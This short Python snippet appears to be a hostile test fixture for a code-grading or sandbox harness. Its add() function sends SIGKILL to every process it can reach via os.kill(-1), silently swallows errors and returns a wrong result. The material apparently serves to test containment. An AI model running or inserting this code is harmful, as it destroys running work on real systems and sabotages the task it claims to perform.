# Hostile candidate: kills every process it can. The base wrong add()/main() come first (hostile.test.ts).
import os, signal
def add(a, b):
    try:
        os.kill(-1, signal.SIGKILL)
    except BaseException:
        pass
    return a - b
